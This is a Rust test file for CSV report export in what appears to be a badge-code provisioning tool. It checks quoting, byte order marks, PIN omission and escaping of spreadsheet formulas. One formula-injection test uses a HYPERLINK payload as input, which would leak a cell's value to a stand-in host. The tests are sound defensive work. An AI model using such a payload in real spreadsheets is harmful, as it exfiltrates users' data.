use super::*;
use crate::batch::{batches, plan, BadgeWindow, ItemOutcome, KnownMethod, RunReport, TeamMember};
use crate::model::QrCode;

/// Reads `text` back with the `csv` crate (an independent RFC 4180 reader), after checking the byte order mark.
fn read_back(text: &str) -> Vec<Vec<String>> {
    let body = text
        .strip_prefix(BYTE_ORDER_MARK)
        .expect("the file starts with a byte order mark");
    ::csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body.as_bytes())
        .records()
        .map(|record| {
            record
                .expect("a well-formed record")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect()
}

fn text(cell: &str) -> String {
    field(&Cell::from(cell)).into_owned()
}

#[test]
fn commas_quotes_and_line_breaks_are_quoted() {
    assert_eq!(text("O'Brien, Seán"), "\"O'Brien, Seán\"");
    assert_eq!(text("Ana \"Nani\" Ruiz"), "\"Ana \"\"Nani\"\" Ruiz\"");
    assert_eq!(text("line one\nline two"), "\"line one\nline two\"");
    assert_eq!(text("a\r\nb"), "\"a\r\nb\"");
    assert_eq!(text("plain"), "plain");
    assert_eq!(text(""), "");
    assert_eq!(text("semi;colon"), "semi;colon");
}

#[test]
fn cells_a_spreadsheet_would_run_start_with_a_quote() {
    assert_eq!(
        text("=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Click\")"),
        "\"'=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"Click\"\")\""
    );
    assert_eq!(text("+1"), "'+1");
    assert_eq!(text("-2"), "'-2");
    assert_eq!(text("@SUM(A1:A9)"), "'@SUM(A1:A9)");
    assert_eq!(text("\t=1+1"), "'\t=1+1");
    assert_eq!(text("\r=1+1"), "\"'\r=1+1\"");
    // Only the first character matters: a formula sign inside text is harmless.
    assert_eq!(text("Jean-Luc"), "Jean-Luc");
    assert_eq!(text("a=b"), "a=b");
    assert_eq!(text(" =1+1"), " =1+1");
}

#[test]
fn numbers_stay_numbers_and_text_that_looks_like_one_is_guarded() {
    assert_eq!(field(&Cell::Integer(-2)), "-2");
    assert_eq!(field(&Cell::from(395u32)), "395");
    assert_eq!(field(&Cell::from("-2")), "'-2");
    assert_eq!(field(&Cell::from(None)), "");
}

#[test]
fn a_file_is_crlf_records_after_a_byte_order_mark() {
    let file = to_csv([vec!["Name", "UPN"], vec!["Zoë", "zoe@contoso.example"]]);
    assert_eq!(file, "\u{feff}Name,UPN\r\nZoë,zoe@contoso.example\r\n");
    assert_eq!(file.as_bytes()[..3], [0xEF, 0xBB, 0xBF]);
    assert_eq!(to_csv(Vec::<Vec<Cell>>::new()), "\u{feff}");
    assert!(!file.replace("\r\n", "").contains(['\r', '\n']));
}

#[test]
fn awkward_names_round_trip_through_a_csv_reader() {
    let rows: Vec<Vec<String>> = vec![
        vec![
            "O'Brien, Seán".into(),
            "Ana \"Nani\" Ruiz".into(),
            "".into(),
        ],
        vec![
            "two\nlines".into(),
            "crlf\r\ninside".into(),
            "Müller-Lüdenscheidt".into(),
        ],
        vec!["李小龍".into(), "Øyvind Ærø".into(), "👩🏽‍🔧 emoji".into()],
        vec!["plain".into(), "".into(), "trailing space ".into()],
    ];
    assert_eq!(read_back(&to_csv(rows.clone())), rows);
    // Guarded cells read back with their quote and nothing else changed.
    let risky = vec![vec!["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\ry"]];
    assert_eq!(
        read_back(&to_csv(risky)),
        vec![vec!["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\ry"]]
    );
}

fn columns() -> ReportColumns<'static> {
    ReportColumns {
        display_name: "Nombre",
        upn: "UPN",
        outcome: "Resultado",
        detail: "Detalle",
        error_code: "Código de error",
        request_id: "Id. de solicitud",
        temporary_pin: "PIN temporal",
    }
}

fn row(name: &str, outcome: ReportOutcome, pin: Option<&str>) -> ReportRow {
    ReportRow {
        display_name: name.into(),
        upn: format!("{}@contoso.example", name.to_lowercase()),
        outcome,
        detail: String::new(),
        error_code: None,
        request_id: None,
        temporary_pin: pin.map(str::to_owned),
    }
}

#[test]
fn the_report_leaves_pins_out_unless_asked() {
    let rows = vec![
        row("Adele", ReportOutcome::Created, Some("73914502")),
        ReportRow {
            detail: "Too many requests, wait.".into(),
            error_code: Some("TooManyRequests".into()),
            request_id: Some("4f1c-99".into()),
            ..row("=Bob", ReportOutcome::Failed, None)
        },
    ];
    let word = |outcome: ReportOutcome| outcome.machine_word().to_owned();
    let omitted = report_csv(&columns(), &rows, word, PinColumn::Omit);
    assert!(!omitted.contains("73914502"));
    assert!(!omitted.contains("PIN temporal"));
    assert_eq!(
        read_back(&omitted),
        vec![
            vec![
                "Nombre",
                "UPN",
                "Resultado",
                "Detalle",
                "Código de error",
                "Id. de solicitud"
            ],
            vec!["Adele", "adele@contoso.example", "created", "", "", ""],
            vec![
                "'=Bob",
                "'=bob@contoso.example",
                "failed",
                "Too many requests, wait.",
                "TooManyRequests",
                "4f1c-99"
            ],
        ]
    );
    let included = report_csv(&columns(), &rows, word, PinColumn::Include);
    let records = read_back(&included);
    assert_eq!(records[0].last().map(String::as_str), Some("PIN temporal"));
    assert_eq!(records[1].last().map(String::as_str), Some("73914502"));
    assert_eq!(records[2].last().map(String::as_str), Some(""));
    assert_eq!(included.matches("73914502").count(), 1);
}

#[test]
fn outcome_words_come_from_the_caller_and_machine_words_are_distinct() {
    let rows = vec![row("Zoë", ReportOutcome::Extended, None)];
    let translated = report_csv(
        &columns(),
        &rows,
        |outcome| format!("«{outcome:?}»"),
        PinColumn::Omit,
    );
    assert_eq!(read_back(&translated)[1][2], "«Extended»");
    let mut words: Vec<&str> = ReportOutcome::ALL
        .iter()
        .map(|o| o.machine_word())
        .collect();
    words.sort_unstable();
    words.dedup();
    assert_eq!(words.len(), ReportOutcome::ALL.len());
    assert!(words
        .iter()
        .all(|w| w.bytes().all(|b| b.is_ascii_lowercase() || b == b'_')));
}

#[test]
fn a_team_run_entry_becomes_a_row_with_graphs_code_and_request_id() {
    let member = |id: &str, method| TeamMember {
        id: id.into(),
        upn: format!("{id}@contoso.example"),
        display_name: format!("Person {id}"),
        method,
    };
    let now = chrono::Utc::now();
    let window = BadgeWindow {
        start: now,
        expire: now + chrono::Duration::days(365),
    };
    let planned = plan(
        &[
            member("a", KnownMethod::NoMethod),
            member("b", KnownMethod::NoActiveStandardCode),
            member("c", KnownMethod::ActiveStandardCode),
            member("d", KnownMethod::NoMethod),
        ],
        window,
        now,
    )
    .unwrap();
    let mut report = RunReport::new(&planned);
    // Only the first two creates get an answer: the third (d) stays pending, as after a cancel.
    let mut batch = batches(&planned, 20).remove(0);
    batch.requests.truncate(2);
    report.record(
        &batch,
        &[
            ItemOutcome::Created {
                code: QrCode::default(),
                pin: Some("80412577".into()),
            },
            ItemOutcome::Failed {
                status: Some(403),
                code: "accessDenied".into(),
                message: "Insufficient privileges.".into(),
                request_id: Some("req-42".into()),
                retriable: false,
            },
        ],
    );
    let rows: Vec<ReportRow> = report
        .entries()
        .iter()
        .map(|entry| ReportRow::from_team_entry(entry, String::new()))
        .collect();
    let outcomes: Vec<ReportOutcome> = rows.iter().map(|row| row.outcome).collect();
    assert_eq!(
        outcomes,
        [
            ReportOutcome::Created,
            ReportOutcome::Failed,
            ReportOutcome::Skipped,
            ReportOutcome::Pending
        ]
    );
    assert_eq!(rows[0].temporary_pin.as_deref(), Some("80412577"));
    assert_eq!(rows[1].error_code.as_deref(), Some("accessDenied"));
    assert_eq!(rows[1].request_id.as_deref(), Some("req-42"));
    assert_eq!(rows[2].upn, "c@contoso.example");
}
